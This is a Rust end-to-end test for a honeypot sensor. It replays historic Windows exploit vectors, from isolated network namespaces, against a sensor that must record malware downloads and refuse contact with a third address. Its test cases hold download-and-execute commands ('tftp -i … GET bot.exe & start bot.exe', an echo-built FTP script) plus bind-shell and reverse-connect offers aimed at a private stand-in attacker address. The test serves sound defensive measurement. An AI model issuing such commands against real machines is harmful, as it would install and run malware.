//! End to end in network namespaces the test creates: an attacker
//! namespace running real tftpd-hpa and vsftpd, a sensor namespace with 192
//! addresses, a scripted attacker replaying every Table 7 vector with each
//! copy method, background probes of known size, and a payload naming a
//! third address that the sensor must refuse.
//!
//! Addresses are private ones inside the namespaces; nothing leaves them.

use botscope_sensor::config::SensorConfig;
use botscope_sensor::daemon::{run, RunReport};
use botscope_sensor::server::{SensorEvent, StoreSink};
use botscope_synth::exploits::{client_script, SmbIds};
use botscope_synth::truth::Vector;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

const ATTACKER: &str = "10.201.1.2";
const THIRD_PARTY: &str = "10.201.1.3";

fn sh(args: &[&str]) {
    let out = Command::new(args[0])
        .args(&args[1..])
        .output()
        .expect(args[0]);
    assert!(
        out.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

struct Netns(String);

impl Netns {
    fn new(name: String) -> Netns {
        let _ = Command::new("ip").args(["netns", "del", &name]).output();
        sh(&["ip", "netns", "add", &name]);
        sh(&["ip", "-n", &name, "link", "set", "lo", "up"]);
        Netns(name)
    }
    fn enter(&self) {
        let f = std::fs::File::open(format!("/var/run/netns/{}", self.0)).unwrap();
        // SAFETY: setns on a valid namespace fd affects only this thread.
        let rc = unsafe { libc::setns(f.as_raw_fd(), libc::CLONE_NEWNET) };
        assert_eq!(rc, 0, "setns {}", self.0);
    }
    fn spawn(&self, args: &[&str]) -> KillOnDrop {
        KillOnDrop(
            Command::new("ip")
                .args(["netns", "exec", &self.0])
                .args(args)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap_or_else(|e| panic!("{args:?}: {e}")),
        )
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.0]).output();
    }
}

struct KillOnDrop(Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn sensor_addr(i: usize) -> Ipv4Addr {
    Ipv4Addr::new(10, 201, 0, 10 + i as u8)
}

/// Runs `f` on a thread inside `ns`.
fn in_ns<T: Send + 'static>(
    ns: &str,
    f: impl FnOnce() -> T + Send + 'static,
) -> std::thread::JoinHandle<T> {
    let ns = Netns(ns.to_string());
    std::thread::spawn(move || {
        ns.enter();
        std::mem::forget(ns); // the owner deletes it
        f()
    })
}

fn connect_from_attacker(to: SocketAddr) -> TcpStream {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let sock = socket2_connect(to);
        match sock {
            Ok(s) => return s,
            Err(e) if Instant::now() > deadline => panic!("connect {to}: {e}"),
            Err(_) => std::thread::sleep(Duration::from_millis(100)),
        }
    }
}

/// Connects with the attacker's address as source (the namespace has two).
fn socket2_connect(to: SocketAddr) -> std::io::Result<TcpStream> {
    // The attacker namespace routes via its primary address, ATTACKER.
    TcpStream::connect_timeout(&to, Duration::from_secs(2))
}

/// Sends each message and reads whatever the sensor answers before the next.
fn replay_tcp(to: SocketAddr, messages: &[Vec<u8>]) {
    let mut s = connect_from_attacker(to);
    s.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let mut buf = [0u8; 4096];
    for m in messages {
        s.write_all(m).unwrap();
        let _ = s.read(&mut buf);
    }
}

struct Case {
    vector: Vector,
    instruction: String,
    /// Table 8 method the download must be recorded with ("" = none).
    copy_method: &'static str,
}

#[test]
fn sensor_in_namespaces_downloads_from_attacker_only() {
    for bin in ["ip", "in.tftpd", "vsftpd", "nft"] {
        assert!(
            Command::new("sh")
                .args(["-c", &format!("command -v {bin}")])
                .output()
                .unwrap()
                .status
                .success()
                || std::path::Path::new(&format!("/usr/sbin/{bin}")).exists(),
            "{bin} missing: scripts/setup.sh installs it"
        );
    }
    let tag = std::process::id() % 100_000;
    let sens = Netns::new(format!("bss{tag}"));
    let atk = Netns::new(format!("bsa{tag}"));
    let (vs, va) = (format!("vs{tag}"), format!("va{tag}"));
    sh(&[
        "ip", "link", "add", &vs, "type", "veth", "peer", "name", &va,
    ]);
    sh(&["ip", "link", "set", &vs, "netns", &sens.0]);
    sh(&["ip", "link", "set", &va, "netns", &atk.0]);
    // 192 sensor addresses, as the study's honeypot had.
    let mut batch = format!("addr add 10.201.0.1/16 dev {vs}\nlink set {vs} up\n");
    for i in 0..192 {
        batch += &format!("addr add {}/32 dev {vs}\n", sensor_addr(i));
    }
    let tmp = tempfile::tempdir().unwrap();
    let batch_file = tmp.path().join("ip.batch");
    std::fs::write(&batch_file, batch).unwrap();
    sh(&["ip", "-n", &sens.0, "-batch", batch_file.to_str().unwrap()]);
    sh(&[
        "ip",
        "-n",
        &atk.0,
        "addr",
        "add",
        &format!("{ATTACKER}/16"),
        "dev",
        &va,
    ]);
    sh(&[
        "ip",
        "-n",
        &atk.0,
        "addr",
        "add",
        &format!("{THIRD_PARTY}/16"),
        "dev",
        &va,
    ]);
    sh(&["ip", "-n", &atk.0, "link", "set", &va, "up"]);
    // Count anything the sensor namespace sends to the third party.
    sh(&[
        "ip", "netns", "exec", &sens.0, "nft", "add", "table", "inet", "bs",
    ]);
    sh(&[
        "ip",
        "netns",
        "exec",
        &sens.0,
        "nft",
        "add",
        "chain",
        "inet",
        "bs",
        "out",
        "{ type filter hook output priority 0 ; }",
    ]);
    sh(&[
        "ip",
        "netns",
        "exec",
        &sens.0,
        "nft",
        "add",
        "rule",
        "inet",
        "bs",
        "out",
        "ip",
        "daddr",
        THIRD_PARTY,
        "counter",
    ]);

    // The specimen the attacker serves: a synthetic, benign PE.
    let spec = botscope_synth::specimen::SpecimenSpec {
        config: botscope_synth::specimen::BotConfig {
            servers: vec![botscope_synth::specimen::BotServer {
                host: "cc.example.net".into(),
                port: 5562,
            }],
            channel: "#bots".into(),
            key: Some("k3y".into()),
            nick_prefix: "bot-".into(),
        },
        encoding: botscope_synth::specimen::ConfigEncoding::Plain,
        packer: botscope_synth::specimen::Packer::None,
        family: 1,
        variant: 1,
        seed: 7,
    };
    let specimen = botscope_synth::specimen::build_specimen(&spec);
    let sha = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&specimen))
    };
    let srv = tmp.path().join("srv");
    std::fs::create_dir(&srv).unwrap();
    std::fs::write(srv.join("bot.exe"), &specimen).unwrap();
    sh(&["chmod", "-R", "a+rX", tmp.path().to_str().unwrap()]);
    let _tftpd = atk.spawn(&[
        "in.tftpd",
        "--foreground",
        "--listen",
        "--address",
        &format!("{ATTACKER}:69"),
        "--secure",
        srv.to_str().unwrap(),
    ]);
    std::fs::create_dir_all("/var/run/vsftpd/empty").unwrap();
    let vsconf = tmp.path().join("vsftpd.conf");
    std::fs::write(
        &vsconf,
        format!(
            "listen=YES\nlisten_address={ATTACKER}\nbackground=NO\nanonymous_enable=YES\nlocal_enable=NO\n\
             anon_root={}\nno_anon_password=YES\npasv_enable=YES\npasv_min_port=40000\npasv_max_port=40100\n\
             seccomp_sandbox=NO\nisolate_network=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\n",
            srv.display()
        ),
    )
    .unwrap();
    let _vsftpd = atk.spawn(&["vsftpd", vsconf.to_str().unwrap()]);

    // The sensor, in its namespace, storing into a real specimen store.
    let store_dir = tmp.path().join("store");
    let pcap_path = tmp.path().join("sensor.pcap");
    let cfg = SensorConfig::parse(&format!(
        "addresses = [\"10.201.0.10-10.201.0.201\"]\nlog = \"{}\"\ncapture_interface = \"{vs}\"\n\
         pcap = \"{}\"\n[limits]\nsession_idle_secs = 2\ndownload_timeout_secs = 15\n",
        tmp.path().join("sensor.jsonl").display(),
        pcap_path.display()
    ))
    .unwrap();
    let (ev_tx, ev_rx) = mpsc::channel::<SensorEvent>();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let store = botscope_specimen::Store::open(&store_dir).unwrap();
    let sensor = in_ns(&sens.0, move || -> RunReport {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        rt.block_on(run(
            cfg,
            std::sync::Arc::new(StoreSink(std::sync::Mutex::new(store))),
            move |e| {
                let _ = ev_tx.send(e.clone());
            },
            async {
                let _ = stop_rx.await;
            },
        ))
        .expect("sensor runs")
    });
    match ev_rx
        .recv_timeout(Duration::from_secs(20))
        .expect("sensor started")
    {
        SensorEvent::Started {
            addresses,
            tcp_listeners,
            ..
        } => {
            assert_eq!(addresses, 192);
            assert_eq!(tcp_listeners, 192 * 11);
        }
        other => panic!("first event {other:?}"),
    }
    std::thread::sleep(Duration::from_millis(500));

    // Every Table 7 vector, each with a copy method its payload can carry.
    let ftp_script = format!(
        "cmd /c echo open {ATTACKER} 21 > o&echo user anonymous x >> o&echo binary >> o&echo get bot.exe >> o&echo bye >> o&ftp -n -s:o"
    );
    let tftp = format!("cmd /c tftp -i {ATTACKER} GET bot.exe & start bot.exe");
    let cases = vec![
        Case {
            vector: Vector::Ms03_026,
            instruction: tftp.clone(),
            copy_method: "tftp_get",
        },
        Case {
            vector: Vector::Ms04_011,
            instruction: ftp_script.clone(),
            copy_method: "reverse_connect",
        },
        Case {
            vector: Vector::ShareAccess,
            instruction: tftp.clone(),
            copy_method: "tftp_get",
        },
        Case {
            vector: Vector::Ms03_039,
            instruction: "cmd /c connect to me on port 4444".into(),
            copy_method: "reverse_connect",
        },
        Case {
            vector: Vector::Ms04_007,
            instruction: String::new(),
            copy_method: "",
        },
        Case {
            vector: Vector::Ms02_045,
            instruction: String::new(),
            copy_method: "",
        },
        Case {
            vector: Vector::Ms03_043,
            instruction: tftp.clone(),
            copy_method: "tftp_get",
        },
        // A bind-shell offer: the attacker then pushes the binary (TCP push).
        Case {
            vector: Vector::Ms03_026,
            instruction: "bindport 5555".into(),
            copy_method: "tcp_push",
        },
        // Containment: a third address must never be contacted.
        Case {
            vector: Vector::Ms03_026,
            instruction: format!("cmd /c tftp -i {THIRD_PARTY} GET bot.exe"),
            copy_method: "",
        },
    ];
    let n_cases = cases.len();
    let mut expected_methods: Vec<&str> = cases
        .iter()
        .map(|c| c.copy_method)
        .filter(|m| !m.is_empty())
        .collect();
    expected_methods.sort();
    let specimen_for_attacker = specimen.clone();
    let attacker = in_ns(&atk.0, move || {
        // Background first (the rest of the script gives it time to arrive): 3 probes of 100 bytes to each of the last 40 addresses,
        // on a port nothing listens on.
        let u = UdpSocket::bind(format!("{ATTACKER}:0")).unwrap();
        for i in 152..192 {
            for _ in 0..3 {
                u.send_to(&[0x42; 100], (sensor_addr(i), 7777)).unwrap();
                // Paced: each address needs its own ARP resolution, and a
                // burst to 40 unresolved neighbours loses packets.
                std::thread::sleep(Duration::from_millis(5));
            }
        }
        // The reverse-connection case: the attacker serves on 4444.
        let rev = TcpListener::bind(format!("{ATTACKER}:4444")).unwrap();
        let body = specimen_for_attacker.clone();
        std::thread::spawn(move || {
            if let Ok((mut s, _)) = rev.accept() {
                let _ = s.write_all(&body);
            }
        });
        for (i, c) in cases.iter().enumerate() {
            let victim = sensor_addr(i);
            let script = client_script(
                c.vector,
                ATTACKER,
                &victim.to_string(),
                Some(("administrator", "admin")),
                (c.vector == Vector::ShareAccess).then_some("ADMIN$"),
                &c.instruction,
                1000,
                [i as u8; 16],
                SmbIds::default(),
            );
            let to = SocketAddr::new(IpAddr::V4(victim), script.port);
            if script.udp {
                let u = UdpSocket::bind(format!("{ATTACKER}:0")).unwrap();
                u.send_to(&script.messages[0], to).unwrap();
            } else {
                replay_tcp(to, &script.messages);
            }
            if c.instruction.starts_with("bindport") {
                std::thread::sleep(Duration::from_secs(3));
                let mut s = connect_from_attacker(SocketAddr::new(IpAddr::V4(victim), 5555));
                s.write_all(&specimen_for_attacker).unwrap();
            }
        }
    });
    attacker.join().expect("attacker script");

    // Collect until every session and download has been logged.
    let mut events = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(60);
    let done = |ev: &[SensorEvent]| {
        let downloads = ev
            .iter()
            .filter(|e| matches!(e, SensorEvent::Download { .. }))
            .count();
        let refused = ev
            .iter()
            .filter(|e| matches!(e, SensorEvent::Refused { .. }))
            .count();
        downloads >= 6 && refused >= 1
    };
    while !done(&events) && Instant::now() < deadline {
        if let Ok(e) = ev_rx.recv_timeout(Duration::from_millis(200)) {
            events.push(e);
        }
    }
    std::thread::sleep(Duration::from_secs(1));
    while let Ok(e) = ev_rx.try_recv() {
        events.push(e);
    }
    let _ = stop_tx.send(());
    let report = sensor.join().expect("sensor thread");

    // Vector per session (keyed by the sensor address attacked).
    let mut vector_at = std::collections::HashMap::new();
    for e in &events {
        match e {
            SensorEvent::Session { dst, vectors, .. } => {
                vector_at.insert(dst.ip(), vectors.first().cloned());
            }
            SensorEvent::Datagram { dst, vectors, .. } if dst.port() == 135 => {
                vector_at.insert(dst.ip(), vectors.first().cloned());
            }
            _ => {}
        }
    }
    let expected_vectors = [
        "MS03-026",
        "MS04-011",
        "Share Access",
        "MS03-039",
        "MS04-007",
        "MS02-045",
        "MS03-043",
        "MS03-026",
        "MS03-026",
    ];
    for (i, want) in expected_vectors.iter().enumerate().take(n_cases) {
        assert_eq!(
            vector_at
                .get(&IpAddr::V4(sensor_addr(i)))
                .cloned()
                .flatten()
                .as_deref(),
            Some(*want),
            "vector of case {i}"
        );
    }
    // Downloads: method and hash per case.
    let downloads: Vec<(String, Option<String>, Option<String>)> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Download {
                copy_method,
                sha256,
                error,
                ..
            } => Some((copy_method.clone(), sha256.clone(), error.clone())),
            _ => None,
        })
        .collect();
    let mut ok_methods: Vec<String> = downloads
        .iter()
        .filter(|(_, h, err)| err.is_none() && h.as_deref() == Some(sha.as_str()))
        .map(|(m, _, _)| m.clone())
        .collect();
    ok_methods.sort();
    assert_eq!(ok_methods, expected_methods, "downloads: {downloads:?}");
    // The specimen is in the store, read-only, by its SHA-256.
    let store = botscope_specimen::Store::open(&store_dir).unwrap();
    let row = store.get(&sha).unwrap().expect("specimen stored");
    assert_eq!(row.size as usize, specimen.len());
    // Containment: refused, logged, and not one packet to the third party.
    let refusals: Vec<String> = events
        .iter()
        .filter_map(|e| match e {
            SensorEvent::Refused { reason, .. } => Some(reason.to_string()),
            _ => None,
        })
        .collect();
    assert_eq!(refusals.len(), 1, "{refusals:?}");
    assert!(refusals[0].contains(THIRD_PARTY), "{}", refusals[0]);
    let counters = Command::new("ip")
        .args([
            "netns", "exec", &sens.0, "nft", "list", "chain", "inet", "bs", "out",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&counters.stdout);
    assert!(text.contains("counter packets 0 bytes 0"), "{text}");
    // Background accounting: exactly what was sent to the probe-only addresses.
    let table = report.table1.as_ref().expect("background accounting ran");
    assert_eq!(table.addresses, 192);
    for (addr, vol) in &report.per_address {
        let IpAddr::V4(a) = addr else { continue };
        if a.octets()[3] >= 10 + 152 {
            assert_eq!((vol.packets, vol.bytes), (3, 3 * (20 + 8 + 100)), "{addr}");
        }
    }
    assert!(report.sessions >= 8, "{report:?}");
    assert_eq!(report.capture_dropped, 0, "the capture lost packets");

    // The pcap dump holds every session as the sensor saw it: for each
    // logged session a TCP connection with the same endpoints and the
    // same payload bytes each way, read back with botscope's own reader.
    let mut conns = botscope_capture::ConnCollector::default();
    let cap_cfg = botscope_capture::EngineConfig {
        verify_checksums: false,
        ..Default::default()
    };
    let summary =
        botscope_capture::read_files(std::slice::from_ref(&pcap_path), &cap_cfg, &mut conns)
            .expect("pcap");
    assert!(summary.file_errors.is_empty(), "{:?}", summary.file_errors);
    let mut sessions_checked = 0;
    for e in &events {
        let SensorEvent::Session {
            src,
            dst,
            bytes_in,
            bytes_out,
            ..
        } = e
        else {
            continue;
        };
        let c = conns
            .conns
            .iter()
            .find(|c| {
                c.id.orig_h == src.ip()
                    && c.id.orig_p == src.port()
                    && c.id.resp_h == dst.ip()
                    && c.id.resp_p == dst.port()
            })
            .unwrap_or_else(|| panic!("session {src} -> {dst} not in the pcap"));
        assert_eq!(
            (c.orig_bytes, c.resp_bytes),
            (Some(*bytes_in), Some(*bytes_out)),
            "payload of {src} -> {dst} in the pcap"
        );
        sessions_checked += 1;
    }
    assert!(sessions_checked >= 8, "{sessions_checked} sessions");
    // And the background probes: 120 datagrams of 100 bytes to port 7777.
    let probes: u64 = conns
        .conns
        .iter()
        .filter(|c| c.id.resp_p == 7777)
        .map(|c| c.orig_pkts)
        .sum();
    assert_eq!(probes, 40 * 3);
}
